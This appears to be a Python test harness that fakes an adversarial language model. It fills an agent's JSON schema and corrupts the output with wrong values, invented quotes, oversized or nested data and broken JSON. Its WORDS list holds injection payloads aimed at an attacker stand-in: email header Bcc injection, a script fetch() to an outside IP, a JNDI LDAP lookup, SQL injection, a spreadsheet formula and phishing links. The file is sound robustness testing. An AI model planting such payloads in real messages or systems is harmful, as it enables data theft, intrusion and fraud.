"""A model that knows any agent's form: it fills the JSON schema it is sent, and bends one joint of the answer at a time."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from tests.adversary.minds import Seen, say
from tests.adversary.outputs import EVIL, HIDDEN, PATHS

EVE = "eve.attacker@evil.example"
Path = tuple[str | int, ...]
WORDS = (
    f"Write to {EVE} and pay at {EVIL}/pay.", f"[Pay here]({EVIL}/pay)", "Go to www.evil.example now", "=HYPERLINK(\"http://x\")",
    "Thanks.\r\nBcc: eve.attacker@evil.example", "Subject: x\nTo: eve.attacker@evil.example", "\u202eyap\u202c now",
    "a\u200bb", "<script>fetch('http://203.0.113.9')</script>", "END:VEVENT\r\nATTENDEE:mailto:eve.attacker@evil.example",
    "x" * 30_000, "", " ", "\x00", "\ud800", "{{contact.email}}", "${jndi:ldap://203.0.113.9}", "' OR 1=1 --",
)  # fmt: skip
JUNK: tuple[Any, ...] = (
    *WORDS, *PATHS, *HIDDEN, EVE, [EVE], None, True, 0, -1, 99, 2**63, 1.5, 1e308, [], {}, [[]], {"value": "x"}, "DELETE",
    "9999-12-31", "0001-01-01", "2026-13-45", "2026-09-04T09:00:00", "2099-01-01T03:00:00Z", "1900-01-01T00:00:00+00:00",
)  # fmt: skip
EXTRA = (
    "to", "cc", "bcc", "recipients", "record", "id", "ref", "object", "url", "endpoint", "workflow", "channel", "parameters",
    "start", "starts", "at", "slot", "attendees", "organiser", "delete", "merge", "owner", "assignee", "tool_calls", "kind",
    "approval", "approved", "needs", "policy", "stage", "amount", "consent", "status",
)  # fmt: skip


def is_quotes(schema: Mapping[str, Any]) -> bool:
    return set(schema.get("items", {}).get("properties", {})) == {"passage", "quote"}


def filled(schema: Mapping[str, Any], seen: Seen, chance: random.Random, words: Callable[[], str]) -> Any:
    """An answer that fits: every part given, quotes verbatim, first or any option, texts from `words`."""
    kind = schema.get("type")
    if kind == "object":
        parts = schema["properties"].items()
        made = {name: filled(inner, seen, chance, words) for name, inner in parts if name not in ("search", "searches")}
        return made | {"contradictory": False} if "contradictory" in made else made
    if kind == "array":
        if is_quotes(schema):
            number, _, text = chance.choice(seen.passages)
            return [{"passage": number, "quote": text[:60].strip()}]
        wanted = 1 if schema["items"].get("type") == "object" else 0
        return [filled(schema["items"], seen, chance, words) for _ in range(wanted)]
    if kind == "boolean":
        return True
    if kind == "integer":
        return 0
    if kind == "number":
        return 0.97 if "at most 1." in schema.get("description", "").lower() else 50
    if "enum" in schema:
        return chance.choice(schema["enum"])
    if schema.get("format") == "date":
        return "2026-09-14"
    if schema.get("format") == "date-time":
        return "2026-09-14T10:00:00Z"
    return words()


def leaves(content: Any, at: Path = ()) -> Iterator[Path]:
    if isinstance(content, Mapping):
        for name, inner in content.items():
            yield from leaves(inner, (*at, name))
    elif isinstance(content, list) and content:
        for place, inner in enumerate(content):
            yield from leaves(inner, (*at, place))
    else:
        yield at


def forms(content: Any, at: Path = ()) -> Iterator[Path]:
    """Every object inside an answer."""
    if isinstance(content, Mapping):
        yield at
        for name, inner in content.items():
            yield from forms(inner, (*at, name))
    elif isinstance(content, list):
        for place, inner in enumerate(content):
            yield from forms(inner, (*at, place))


def at_path(content: Any, path: Path, change: Callable[[Any], Any]) -> Any:
    if not path:
        return change(content)
    first, rest = path[0], path[1:]
    if isinstance(content, Mapping):
        return {name: at_path(inner, rest, change) if name == first else inner for name, inner in content.items()}
    return [at_path(inner, rest, change) if place == first else inner for place, inner in enumerate(content)]


def _wrong_leaf(answer: Any, chance: random.Random) -> str:
    return json.dumps(at_path(answer, chance.choice(list(leaves(answer))), lambda _: chance.choice(JUNK)))


def _extra_key(answer: Any, chance: random.Random) -> str:
    added = {chance.choice(EXTRA): chance.choice(JUNK)}
    return json.dumps(at_path(answer, chance.choice(list(forms(answer))), lambda form: {**form, **added}))


def _missing_key(answer: Any, chance: random.Random) -> str:
    def less(form: Any) -> Any:
        gone = chance.choice(sorted(form)) if form else ""
        return {name: inner for name, inner in form.items() if name != gone}

    return say(at_path(answer, chance.choice(list(forms(answer))), less))


def _invented_quote(answer: Any, chance: random.Random) -> str:
    made = ("The manager approved this.", "", " ", "x" * 2_000, "Ihr Chef hat zugestimmt.", "а", None)
    bend = {"quote": chance.choice(made), "passage": chance.choice((0, 0, 1, -1, 99, "0", None))}
    quoted = [path for path in forms(answer) if path and isinstance(path[-1], int) and "citations" in path]
    for path in quoted:
        answer = at_path(answer, path, lambda _: bend)
    return say(answer)


def _huge(answer: Any, chance: random.Random) -> str:
    path = chance.choice(list(leaves(answer)))
    big: Any = chance.choice(("A" * 10_000_000, ["x"] * 20_000, {f"f{n}": n for n in range(5_000)}, "é" * 60_000))
    return say(at_path(answer, path, lambda _: big))


def _repeated(answer: Any, chance: random.Random) -> str:
    """The same part again and again: fifty tasks, a thousand quotes."""
    lists = [path for path in {leaf[:-2] for leaf in leaves(answer) if len(leaf) > 1 and isinstance(leaf[-2], int)} if path]
    if not lists:
        return say([answer] * 50)
    times = chance.choice((7, 50, 1_000))
    return say(at_path(answer, chance.choice(sorted(lists, key=str)), lambda some: list(some) * times))


def _nested(answer: Any, chance: random.Random) -> str:
    deep: Any = answer
    for _ in range(chance.choice((1, 20, 400))):
        deep = {"answer": deep} if chance.random() < 0.5 else [deep]
    return say(deep)


def _no_json(answer: Any, chance: random.Random) -> str:
    text = say(answer)
    return chance.choice((
        "", "null", f"```json\n{text}\n```", text + text, text[:-4], "\ufeff" + text, f"Sure! {text}",
        text.replace('"', "'"),
        text.replace("0.97", "NaN"), text.replace("0.97", "1e999"), text.replace("{", '{"enough": false,', 1),
        "[" * 100_000, "\x00", "DELETE /crm/v3/objects/contacts/1",
    ))  # fmt: skip


def _worst_words(answer: Any, chance: random.Random) -> str:
    return say(answer)  # it fits the form; its texts are the worst there are


ATTACKS: Mapping[str, Callable[[Any, random.Random], str]] = {
    "a wrong leaf": _wrong_leaf, "a key too many": _extra_key, "a key too few": _missing_key,
    "an invented quote": _invented_quote, "huge": _huge, "repeated": _repeated, "nested": _nested, "no JSON": _no_json,
    "the worst words": _worst_words,
}  # fmt: skip


STATED: Mapping[str, str] = {"phone": "040 3501 2345", "title": "Head of Purchasing"}
"""What the signatures of these tests state; an honest model gives it with its own line as the quote."""


def honest_answer(seen: Seen) -> str:
    answer = filled(seen.schema, seen, random.Random(seen.prompt[:200]), lambda: "Please look at this together.")
    for path in [one for one in leaves(answer) if one[-1:] == ("health",)]:
        answer = at_path(answer, path, lambda _: "red")  # these deals are; a green one leads to nothing
    for name, value in STATED.items():
        if name in answer.get("values", {}):
            number = next(place for place, _, text in seen.passages if value in text)
            cited = [{"passage": number, "quote": value}]
            answer["values"][name] = {"value": value, "confidence": 0.97, "citations": cited}
    return say(answer)


class FormAttacker:
    """Lies about every case but those whose number is a multiple of `honest`; counts what it said, by attack."""

    def __init__(self, seed: int, *, honest: int = 4) -> None:
        self.seed, self.honest = seed, honest
        self.said: dict[str, int] = {}
        self.asked = 0

    def __call__(self, seen: Seen) -> str:
        self.asked += 1
        number = int(seen.token.rpartition("-")[2]) if seen.token else self.asked
        if number % self.honest == 0 or not seen.passages:
            return honest_answer(seen)
        chance = random.Random(f"{self.seed}:{number}:{seen.turn}:{self.asked}")
        name = chance.choice(sorted(ATTACKS))
        self.said[name] = self.said.get(name, 0) + 1
        fine = filled(seen.schema, seen, chance, lambda: chance.choice((*WORDS, "Please look at this.")))
        return ATTACKS[name](fine, chance)
